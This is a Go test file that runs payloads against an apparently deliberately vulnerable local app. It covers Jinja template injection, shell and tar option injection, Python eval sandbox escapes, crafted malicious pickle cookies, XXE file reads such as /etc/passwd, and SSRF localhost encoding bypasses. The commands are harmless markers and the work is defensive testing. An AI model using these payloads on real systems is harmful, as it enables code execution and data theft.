package canon

import (
	"encoding/base64"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"slices"
	"strings"
)

// beyond are what the guides leave out: texts that become a template, a command, a program,
// an object or an address.
func beyond() []Attack {
	return slices.Concat(templates(), commands(), programs(), objects(), addresses())
}

// templates are texts that Jinja runs.
func templates() []Attack {
	const gain = "any program runs on the server"
	card := func(text, want string) Attack {
		return leaky("template: "+text, gain, want, asking("/card", "text", text))
	}
	const shell = `.os.popen("echo $((7*191*3))").read()`
	return []Attack{
		card(`{{ 7*191*3 }}`, "4011"),
		card(`{{7*191*3}}`, "4011"),
		card(`{%print(7*191*3)%}`, "4011"),
		card("{%\nif 1%}{{-7*191*3-}}{%endif%}", "4011"),
		card(`{% for x in [7*191*3] %}{{ x }}{% endfor %}`, "4011"),
		card(`{{ config.SECRET_KEY }}`, sourceKey),
		card(`{{ config }}`, sourceKey),
		card(`{{ get_flashed_messages.__globals__.current_app.secret_key }}`, sourceKey),
		card(`{{ cycler.__init__.__globals__`+shell+` }}`, "4011"),
		card(`{{ (lipsum|attr("__globals__"))["o"+"s"].popen("echo $((7*191*3))").read() }}`, "4011"),
		card(`{{ lipsum["\x5f\x5fglobals\x5f\x5f"]["os"].popen("echo $((7*191*3))").read() }}`, "4011"),
		card(`{% set x = joiner.__init__.__globals__ %}{{ x`+shell+` }}`, "4011"),
		card(`{% include "../private/" ~ "x" ignore missing %}{{ 4000 + 11 }}`, "4011"),
		card(`{# a comment #}{{ [4000, 11]|sum }}`, "4011"),
		card(`harmless {% endblock %}{% block title %}{{ 4000 + 11 }}`, "4011"),
	}
}

// commands are texts that a shell or a program takes for more than a word.
func commands() []Attack {
	const gain = "any program runs on the server"
	ping := func(host string) Attack {
		return leaky("shell: "+host, gain, "4011", asking("/tools/ping", "host", host))
	}
	find := func(q string) Attack {
		return leaky("shell, quoted: "+q, gain, "4011", asking("/manual/find", "q", q))
	}
	quietly := func(name string, request func(s *Scene) *http.Request) Attack {
		return Attack{Name: name, App: "leaky", Gain: gain, Works: func(s *Scene) bool {
			answer := s.Try(s.Client(), request(s))
			s.Logf("%d", answer.Status)
			return s.left(s.trace())
		}}
	}
	return []Attack{
		ping(`localhost; echo $((7*191*3))`),
		ping(`localhost;echo $((7*191*3))`),
		ping(`localhost && echo $((7*191*3)) || echo $((7*191*3))`),
		ping(`localhost || echo $((7*191*3))`),
		ping(`localhost | echo $((7*191*3))`),
		ping(`localhost & echo $((7*191*3))`),
		ping("localhost\necho $((7*191*3))"),
		ping("localhost;echo${IFS}$((7*191*3))"),
		ping("localhost;echo\t$((7*191*3))"),
		ping("localhost;'e'ch\"o\" $((7*191*3))"),
		ping("localhost;{ echo $((7*191*3)); }"),
		ping("localhost;printf %d 0xfab"),
		ping("$(echo localhost; echo $((7*191*3)) >&2)"),
		ping("`echo localhost; echo $((7*191*3)) >&2`"),
		quietly("shell: a file", func(s *Scene) *http.Request {
			return asking("/tools/ping", "host", "localhost > "+s.trace())(s)
		}),
		quietly("shell: a command inside", func(s *Scene) *http.Request {
			return asking("/tools/ping", "host", "$(touch${IFS}"+s.trace()+")")(s)
		}),
		find(`x' manuals/*; echo $((7*191*3)); '`),
		find(`x' /dev/null;echo $((7*191*3));'`),
		quietly("shell, quoted: a file", func(s *Scene) *http.Request {
			return asking("/manual/find", "q", "x'>"+s.trace()+" '")(s)
		}),
		quietly("option of a program", func(s *Scene) *http.Request {
			return asking("/manual/archive", "name", "--checkpoint=1", "name", "--checkpoint-action=exec=touch ../"+s.trace(), "name", "burette.txt")(s)
		}),
		quietly("option of a program: a filter", func(s *Scene) *http.Request {
			return asking("/manual/archive", "name", "burette.txt", "name", "-Itouch ../"+s.trace())(s)
		}),
		leaky("argument of a program: a file elsewhere", "any file", salaries, asking("/manual/archive", "name", "../private/salaries.csv")),
	}
}

// programs are texts that Python runs.
func programs() []Attack {
	const gain = "any program runs on the server"
	calc := func(sum, want string) Attack {
		return leaky("Python: "+sum, gain, want, asking("/tools/calc", "sum", sum))
	}
	return []Attack{
		calc(`__import__("os").popen("echo $((7*191*3))").read()`, "4011"),
		calc(`__import__("subprocess").check_output("echo $((7*191*3))", shell=True)`, "4011"),
		calc(`open("private/salaries.csv").read()`, salaries),
		calc(`app.secret_key`, sourceKey),
		calc(`[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "Popen"][0]("echo $((7*191*3))", shell=True, stdout=-1).communicate()`, "4011"),
		calc(`getattr(__import__("o"+"s"), "po"+"pen")("echo $((7*191*3))").read()`, "4011"),
		calc(`exec("import os") or os.popen("echo $((7*191*3))").read()`, "4011"),
		calc(`rows("SELECT * FROM users")[0]["password"]`, adminsPassword),
	}
}

// objects are bytes that become more than data.
func objects() []Attack {
	const gain = "any program runs on the server"
	pickled := func(name string, cookie func(command string) string) Attack {
		return Attack{Name: "pickle: " + name, App: "leaky", Gain: gain, Works: func(s *Scene) bool {
			answer := s.Try(s.Client(), s.Request(http.MethodGet, "/tools", "", "Cookie", "basket="+cookie("touch "+s.trace())))
			s.Logf("%d", answer.Status)
			return s.left(s.trace())
		}}
	}
	text := func(module, name, argument string) string {
		return base64.StdEncoding.EncodeToString(fmt.Appendf(nil, "c%s\n%s\n(S%q\ntR.", module, name, argument))
	}
	binary := func(module, name, argument string) []byte {
		out := []byte("\x80\x04")
		for _, word := range []string{module, name} {
			out = append(append(out, 0x8c, byte(len(word))), word...)
		}
		out = append(append(append(out, 0x93, 0x8c, byte(len(argument))), argument...), 0x85, 'R', '.')
		return out
	}
	return []Attack{
		pickled("as text", func(command string) string { return text("os", "system", command) }),
		pickled("as bytes", func(command string) string {
			return base64.StdEncoding.EncodeToString(binary("posix", "system", command))
		}),
		pickled("Python's own eval", func(command string) string {
			return text("builtins", "eval", `__import__("os").system("`+command+`")`)
		}),
		pickled("in a basket that looks right", func(command string) string {
			call := binary("posix", "system", command)
			return base64.StdEncoding.EncodeToString(slices.Concat([]byte("\x80\x04}\x8c\x05B-250"), call[2:len(call)-1], []byte("s.")))
		}),
		pickled("by a module that leads there", func(command string) string {
			return base64.StdEncoding.EncodeToString(binary("subprocess", "getoutput", command))
		}),
		pickled("with other characters in the base64", func(command string) string {
			return strings.Join(strings.Split(text("os", "system", command), "c"), "c.-")
		}),
		leaky("XML: a file", "any file", salaries, sending("/tools/order", "xml",
			`<!DOCTYPE order [<!ENTITY e SYSTEM "private/salaries.csv">]><order><item>&e;</item></order>`)),
		leaky("XML: a file by its address", "any file", "root:", sending("/tools/order", "xml",
			`<?xml version="1.0"?><!DOCTYPE order [<!ENTITY e SYSTEM "file:///etc/passwd">]><order><item>&e;</item></order>`)),
		{Name: "XML: another server", App: "leaky", Gain: "what only this machine may see", Works: func(s *Scene) bool {
			return s.leaks(s.Client(), sending("/tools/order", "xml",
				`<!DOCTYPE order [<!ENTITY e SYSTEM "`+s.intranet()+`">]><order><item>&e;</item></order>`)(s), secret)
		}},
	}
}

// intranet is a server that only the machine itself can reach.
func (s *Scene) intranet() string {
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, secret)
	}))
	s.Cleanup(server.Close)
	return server.URL + "/"
}

// addresses are URLs that lead the server to where the visitor cannot go.
func addresses() []Attack {
	inside := func(name string, change func(port string) string) Attack {
		return Attack{Name: "address: " + name, App: "leaky", Gain: "what only this machine may see", Works: func(s *Scene) bool {
			u, err := url.Parse(s.intranet())
			if err != nil {
				s.Fatal(err)
			}
			return s.leaks(s.Client(), asking("/tools/preview", "url", change(u.Port()))(s), secret)
		}}
	}
	host := func(host string) Attack {
		return inside(host, func(port string) string { return "http://" + host + ":" + port + "/" })
	}
	file := func(address string) Attack {
		return Attack{Name: "address: " + address, App: "leaky", Gain: "any file", Works: func(s *Scene) bool {
			path, err := filepath.Abs(filepath.Join(s.Folder, "private", "salaries.csv"))
			if err != nil {
				s.Fatal(err)
			}
			return s.leaks(s.Client(), asking("/tools/preview", "url", strings.ReplaceAll(address, "PATH", path))(s), salaries)
		}}
	}
	return []Attack{
		host("127.0.0.1"), host("localhost"), host("LOCALHOST"), host("127.1"), host("2130706433"), host("0x7f000001"), host("0x7f.1"),
		host("017700000001"), host("0"), host("0.0.0.0"), host("[::ffff:127.0.0.1]"), host("[::ffff:7f00:1]"),
		host("%6cocalhost"),
		inside("in angle brackets", func(port string) string { return "<http://127.0.0.1:" + port + "/>" }),
		inside("with URL: before it", func(port string) string { return "URL:http://127.0.0.1:" + port + "/" }),
		inside("with a blank before it", func(port string) string { return " http://127.0.0.1:" + port + "/" }),
		inside("in capitals", func(port string) string { return "HTTP://LocalHost:" + port + "/" }),
		file("file://PATH"), file("file:PATH"), file("FILE://localhostPATH"), file("<URL:file://PATH>"), file("file:private/salaries.csv"),
	}
}
